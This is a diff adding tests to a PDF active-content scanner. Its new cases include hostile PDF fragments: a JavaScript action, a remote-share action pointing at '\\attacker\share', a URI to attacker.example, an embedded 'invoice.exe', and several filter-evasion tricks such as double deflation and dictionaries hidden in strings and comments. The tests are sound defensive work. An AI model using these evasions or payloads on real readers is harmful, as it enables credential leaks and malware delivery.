@@ -24,6 +24,9 @@ describe('a PDF that only shows', () => {
   test('is taken, deflated object streams included', async () => {
     expect(hasActiveParts(await scannedPage())).toBe(false);
     expect(hasActiveParts(pdf(objectStream('1 0 << /Type /Page /Contents 3 0 R >>')))).toBe(false);
+    // The keywords of a macOS document, and a dictionary with all that may stand in one.
+    const full = String.raw`/AAPL:Keywords [(a (nested\) text)) <0aff>] /P << /EFX 1 >> % a remark` + '\n/Filter /FlateDecode';
+    expect(hasActiveParts(pdf(objectStream('BT (data stream of an URI) Tj ET', full)))).toBe(false);
   });
 });
 
@@ -52,6 +55,32 @@ describe('a PDF that acts is refused', () => {
 
   test('also when it hides behind the word stream', () => {
     expect(hasActiveParts(pdf('% stream\n1 0 obj << /S /JavaScript >> endobj'))).toBe(true);
+  });
+});
+
+describe('S-43: a PDF that a tester built around the filter is refused', () => {
+  const script = '1 0 << /S /JavaScript /JS (app.alert(1)) >>';
+  const around = (dictionary: string, body: Buffer, eol = '\n') =>
+    pdf(Buffer.concat([Buffer.from(`5 0 obj << ${dictionary} >> stream${eol}`), body, Buffer.from('\nendstream endobj')]));
+  const flate = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode';
+
+  test.each([
+    ['an action of a page, to a document on another machine', pdf('1 0 obj << /Type /Page /AA << /O << /S /GoToR /F (\\\\attacker\\share) >> >> >> endobj')],
+    ['an action of a page, behind a comment', pdf('1 0 obj << /Type /Page /AA%x\n7 0 R >> endobj')],
+    ['an address', pdf('1 0 obj << /A << /S /URI /URI (https://attacker.example) >> >> endobj')],
+    ['a program as an attachment of a page', pdf('1 0 obj << /Subtype /FileAttachment /FS 7 0 R >> endobj')],
+    ['a file that is carried along', pdf('7 0 obj << /F (invoice.exe) /EF << /F 8 0 R >> >> endobj')],
+    ['an object stream deflated twice', around('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(script)))],
+    ['the same, with filters that stand elsewhere', around('/Type 8 0 R /N 1 /First 4 /Filter 9 0 R', deflateSync(deflateSync(script)))],
+    ['an object stream after a lone return', around(flate, deflateSync(script), '\r')],
+    ['an object stream after a space', around(flate, deflateSync(script), ' \n')],
+    ['a dictionary hidden behind a string', around('/Type /ObjStm /Filter /JBIG2Decode /X (obj)', Buffer.from('x'))],
+    ['a dictionary hidden behind a name', around('/Type /ObjStm /Filter /JBIG2Decode /X /obj', Buffer.from('x'))],
+    ['a dictionary hidden behind an object in a string', around('/Type /ObjStm /Filter /JBIG2Decode /X (5 0 obj << ) /Y 1', Buffer.from('x'))],
+    ['the same, with a parenthesis that is escaped', around(String.raw`/Type /ObjStm /Filter /JBIG2Decode /X (5 0 obj << \() /Y (x)`, Buffer.from('x'))],
+    ['a dictionary hidden behind an object in a comment', around('/Type /ObjStm /Filter /JBIG2Decode % 5 0 obj <<\n /Y 1', Buffer.from('x'))],
+  ])('%s', (_what, bytes) => {
+    expect(hasActiveParts(bytes)).toBe(true);
   });
 });
 
